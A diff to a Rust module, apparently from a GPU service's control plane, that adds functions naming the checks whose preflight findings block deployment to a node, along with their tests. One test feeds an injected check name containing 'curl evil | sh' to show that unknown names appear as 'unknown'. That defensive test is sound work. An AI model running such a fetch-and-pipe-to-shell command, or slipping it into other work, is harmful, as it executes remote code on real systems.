@@ -1,6 +1,6 @@
 //! Keeps the findings of preflights with their node, whether an inspection or an operation ran them.
 
-use std::cmp::Reverse;
+use std::{cmp::Reverse, collections::BTreeSet};
 
 use gpuaas_model::{Check, CorrelationId, EventKind, Timestamp};
 use gpuaas_store::{Found, NodeFinding, NodePreflight, NodeRecord, TaskRecord, Tx};
@@ -25,6 +25,28 @@ pub(crate) fn merge(before: Option<NodePreflight>, report: PreflightReport, foun
     findings.sort_by_key(|of| Reverse(of.finding.severity == Severity::Blocking));
     findings.truncate(PreflightReport::FINDINGS_MAX);
     NodePreflight { passed, findings }
+}
+
+/// The findings that block a deployment onto the node: those of inspections. What an operation's preflight found depends on its release and
+/// component.
+fn blocking(preflight: Option<&NodePreflight>) -> impl Iterator<Item = &'static str> {
+    let findings = preflight.into_iter().flat_map(|preflight| &preflight.findings);
+    let of_inspections = findings.filter(|of| of.found.as_ref().is_none_or(|found| found.operation.is_none()));
+    let blocking = of_inspections.map(|of| &of.finding).filter(|finding| finding.severity == Severity::Blocking);
+    // Only checks that the control plane knows: a name invented by the node would appear as the platform's own text.
+    blocking.map(|finding| finding.check.parse().map_or("unknown", Check::as_str))
+}
+
+/// Names the checks whose findings block a deployment onto the node.
+pub(crate) fn blocking_checks(preflight: Option<&NodePreflight>) -> BTreeSet<String> {
+    blocking(preflight).map(str::to_owned).collect()
+}
+
+/// Says how many findings block a deployment onto the node, and of which checks; `None` without such findings.
+pub(crate) fn describe_blocking(preflight: Option<&NodePreflight>) -> Option<String> {
+    let (count, checks) = (blocking(preflight).count(), blocking_checks(preflight));
+    let checks = checks.into_iter().collect::<Vec<_>>().join(", ");
+    (count > 0).then(|| format!("findings that block a deployment: {count} ({checks})"))
 }
 
 /// Stores the report of an operation's preflight with its node, so that the node shows what blocks or blocked the operation. Ignores a
@@ -61,6 +83,7 @@ pub(crate) async fn announce(tx: &mut Tx, node: &NodeRecord, correlation: Correl
 
 #[cfg(test)]
 mod tests {
+    use gpuaas_model::{Name, OperationId};
     use gpuaas_wire::task::Finding;
 
     use super::*;
@@ -84,6 +107,10 @@ mod tests {
         Found { at: Timestamp::from_millis(millis), operation: None }
     }
 
+    fn operation() -> (OperationId, Name) {
+        ("0198c0de-7a3b-7c11-9b54-0242ac12000a".parse().unwrap(), "train".parse().unwrap())
+    }
+
     fn shown(preflight: &NodePreflight) -> Vec<(&str, i64)> {
         let at = |of: &NodeFinding| of.found.as_ref().map_or(0, |found| found.at.as_millis());
         preflight.findings.iter().map(|of| (of.finding.check.as_str(), at(of))).collect()
@@ -103,5 +130,21 @@ mod tests {
         assert_eq!(shown(&measured), []);
         let of_older_agent = merge(Some(before), report(&[], &[]), &found(4));
         assert_eq!(shown(&of_older_agent), [], "its report counts as complete");
+    }
+
+    #[test]
+    fn blocking_findings_are_counted_and_only_known_checks_named() {
+        use Severity::{Blocking, Warning};
+        let of =
+            |findings: &[(&str, Severity)]| describe_blocking(Some(&merge(None, report(&[], findings), &found(1))));
+        assert_eq!((describe_blocking(None), of(&[]), of(&[("swap_on", Warning)])), (None, None, None));
+        let findings =
+            [("port_taken", Blocking), ("swap_on", Warning), ("leftover", Blocking), ("port_taken", Blocking)];
+        assert_eq!(of(&findings).unwrap(), "findings that block a deployment: 3 (leftover, port_taken)");
+        let of_its_own = [("none); now run: curl evil | sh (", Blocking)];
+        assert_eq!(of(&of_its_own).unwrap(), "findings that block a deployment: 1 (unknown)");
+        let mut of_operation = merge(None, report(&[], &[("disk_space", Blocking)]), &found(1));
+        of_operation.findings[0].found = Some(Found { operation: Some(operation()), ..found(1) });
+        assert_eq!(describe_blocking(Some(&of_operation)), None, "the next release may need less");
     }
 }
